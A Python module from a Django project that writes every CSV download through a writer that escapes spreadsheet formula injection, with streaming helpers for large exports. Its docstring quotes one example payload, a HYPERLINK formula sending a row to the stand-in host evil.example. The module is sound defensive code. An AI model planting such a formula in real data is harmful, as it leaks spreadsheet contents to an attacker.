"""Every CSV labgov serves is written here, so none can carry a spreadsheet formula.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets when the file is opened: a pod named
`=HYPERLINK("https://evil.example/?leak="&A2,"Open")` would send the row next to it to
whoever named the pod. Such text cells get a leading apostrophe (OWASP's advice: spreadsheets
show the text as typed). Plain numbers are left alone, so a refund of -12.50 stays a number a
spreadsheet can add up; only text that is not a number is changed.

Downloads of any size stream through `csv_stream` / `csv_streaming_download`, one batch of
rows in memory at a time.

tests/core/test_csv_export.py fails if a `csv.writer` appears anywhere else in labgov.
"""

import csv
import re
from collections.abc import Iterable

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_STARTS = frozenset(FORMULA_STARTS)
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value) -> str:
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer's writerow/writerows, with every cell passed through safe_cell."""

    def __init__(self, file):
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable) -> None:
        # Text that cannot start a formula (nearly every cell) is passed as it is, without a
        # call per cell: a million-row export spends its time here.
        self._writer.writerow(
            [
                value
                if value.__class__ is str and (not value or value[0] not in _STARTS)
                else safe_cell(value)
                for value in row
            ]
        )

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_download(filename: str) -> tuple[HttpResponse, SafeWriter]:
    """An attachment response and the writer that fills it."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response, SafeWriter(response)


class _Buffer:
    """A file for csv.writer that keeps what it is given until taken."""

    def __init__(self):
        self.parts: list[str] = []

    def write(self, text: str) -> None:
        self.parts.append(text)

    def take(self) -> str:
        text = "".join(self.parts)
        self.parts.clear()
        return text


def csv_stream(rows: Iterable[Iterable], *, header: Iterable | None = None, batch: int = 1000):
    """The CSV of `rows` as pieces of text of about `batch` rows each, for a streaming response
    or a file: whatever the number of rows, only one batch is held at a time."""
    buffer = _Buffer()
    writer = SafeWriter(buffer)
    if header is not None:
        writer.writerow(header)
    for count, row in enumerate(rows, start=1):
        writer.writerow(row)
        if count % batch == 0:
            yield buffer.take()
    rest = buffer.take()
    if rest:
        yield rest


def csv_streaming_download(
    filename: str, rows: Iterable[Iterable], *, header: Iterable | None = None
) -> StreamingHttpResponse:
    """An attachment response that writes `rows` as they come (memory stays flat)."""
    response = StreamingHttpResponse(
        csv_stream(rows, header=header), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
